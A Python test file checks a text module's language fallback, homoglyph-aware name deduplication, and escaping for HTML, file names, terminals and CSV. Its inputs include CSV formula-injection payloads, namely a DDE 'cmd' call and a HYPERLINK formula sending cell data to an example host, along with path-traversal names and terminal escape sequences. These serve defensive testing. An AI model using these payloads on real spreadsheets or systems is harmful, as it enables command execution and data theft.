"""Texts: chosen by language, kept as typed, and made safe for where they go."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from plakit.text import distinct_name, escape_for, is_blank, is_taken, kept, same_name, say, titled


@pytest.mark.parametrize(
    ("text", "languages", "words"),
    [
        ({"en": "Level", "de": "Stufe"}, ("de", "en"), "Stufe"),
        ({"en": "Level"}, ("fr", "de"), "Level"),
        ({"": "Level"}, ("de",), "Level"),
        ({}, ("en",), ""),
    ],
)
def test_the_first_language_that_is_there_is_said(
    text: dict[str, str], languages: tuple[str, ...], words: str
) -> None:
    assert say(text, languages) == words


def test_a_title_keeps_its_own_question_mark() -> None:
    assert titled("How are we?", "now") == "How are we? Now"
    assert titled("Readiness", "now") == "Readiness: now"
    assert titled("Why?", "") == "Why? "


@pytest.mark.parametrize(
    "text", ["", " ", "\u00a0", "\u200b\u200d", "\u2066\u2069", "\n\t", "\ufeff"]
)
def test_what_cannot_be_seen_is_blank(text: str) -> None:
    assert is_blank(text)
    assert not is_blank(f"{text}a{text}")


@pytest.mark.parametrize("text", ["a\x00b", "\ud800", "a" * 10_001])
def test_what_no_file_can_keep_is_refused(text: str) -> None:
    with pytest.raises(ValueError, match="the text h"):
        kept(text)


def test_a_text_is_kept_as_typed_but_for_control_characters() -> None:
    assert kept("  =1+1\n\t<b>é \x1b[2J\x07") == "  =1+1\n\t<b>é [2J"
    assert kept("a" * 10_000) == "a" * 10_000


def test_two_ways_to_type_a_name_are_one_name() -> None:
    assert same_name("Cafe\u0301  Wien") == same_name("café wien")
    assert same_name("STRASSE") == same_name("straße")


CYRILLIC_A = "\N{CYRILLIC CAPITAL LETTER A}"


@pytest.mark.parametrize(
    ("name", "taken", "shown"),
    [
        (" Anna ", [], "Anna"),
        ("Anna", ["Anne", "Ana"], "Anna"),
        ("anna", ["Anna", "Anna (2)"], "anna (3)"),
        ("Ilse", ["ilse", "ilse (2)"], "Ilse (3)"),
        ("An\u200bna", ["Anna"], "An\u200bna (2) ≈"),
        ("Ａｎｎａ", ["Anna"], "Ａｎｎａ (2) ≈"),
        (f"{CYRILLIC_A}nna", ["Anna"], f"{CYRILLIC_A}nna (2) ≈"),
        (f"{CYRILLIC_A}nna", [f"{CYRILLIC_A}nna ≈"], f"{CYRILLIC_A}nna (2) ≈"),
        (f"{CYRILLIC_A}nna", [], f"{CYRILLIC_A}nna ≈"),
        ("Сара", ["Capa"], "Сара (2) ≈"),
        ("Guest l", ["Guest 1"], "Guest l (2) ≈"),
        ("БАН Sofia", ["Sofia"], "БАН Sofia"),
        ("José", ["Jose"], "José"),
    ],
)
def test_a_name_that_is_taken_or_looks_so_gets_a_number_and_a_mark(
    name: str, taken: list[str], shown: str
) -> None:
    assert distinct_name(name, taken) == shown


@given(st.lists(st.text(alphabet="AaАаIl1\u200b (2)≈", min_size=1), max_size=6))
def test_names_made_distinct_never_look_alike(names: list[str]) -> None:
    shown: list[str] = []
    for name in names:
        shown.append(distinct_name(name, shown))
        assert not is_taken(shown[-1], shown[:-1])


@given(st.text())
def test_nothing_escaped_for_a_page_opens_a_tag_or_leaves_an_attribute(text: str) -> None:
    assert not set("<>\"'") & set(escape_for("html", text))


@given(st.text())
def test_a_part_of_a_path_is_always_a_plain_name(text: str) -> None:
    name = escape_for("file", text)
    assert name
    assert set(name) <= set("abcdefghijklmnopqrstuvwxyz0123456789-")
    assert len(name) <= 67
    assert escape_for("file", text) == name


@pytest.mark.parametrize("text", ["../../x", "CON", "con", "a:b", "x" * 300, "end.", "-lead", ""])
def test_names_that_trouble_a_disk_become_plain_ones(text: str) -> None:
    name = escape_for("file", text)
    assert not name.startswith(("-", "."))
    assert name not in {"con", "", text}


def test_two_names_that_differ_in_case_only_stay_apart() -> None:
    assert escape_for("file", "Wien") != escape_for("file", "wien")


@given(st.text())
def test_what_goes_to_a_terminal_is_one_short_line(text: str) -> None:
    line = escape_for("terminal", text)
    assert len(line) <= 200
    assert len(line.splitlines()) <= 1
    assert not any(ord(letter) < 32 for letter in line)


FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "＝1", "＋1", "－1", "＠1",
    '=HYPERLINK("http://example.org/?"&A1)', "=cmd|' /C calc'!A0", "-5 °C", "+43 1 58801", "−1",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_spreadsheet_finds_no_formula_in_a_cell_and_it_stays_readable(text: str) -> None:
    ((cell,),) = csv.reader([escape_for("csv", text)], strict=True)
    assert cell == f"'{text}"


@pytest.mark.parametrize(
    "text", ["-5", "+3", "-1.5", "2,5", "NO", "012", "1E5", "a;b", 'a"b', "a\nb"]
)
def test_numbers_and_words_stay_as_they_are_in_a_cell(text: str) -> None:
    (row,) = csv.reader(io.StringIO(escape_for("csv", text), newline=""), strict=True)
    assert row == [text]


@given(st.text(st.characters(codec=None)))
def test_any_text_is_one_cell_of_one_row(text: str) -> None:
    rows = list(csv.reader(io.StringIO(f"{escape_for('csv', text)},2", newline=""), strict=True))
    assert [len(row) for row in rows] == [2]
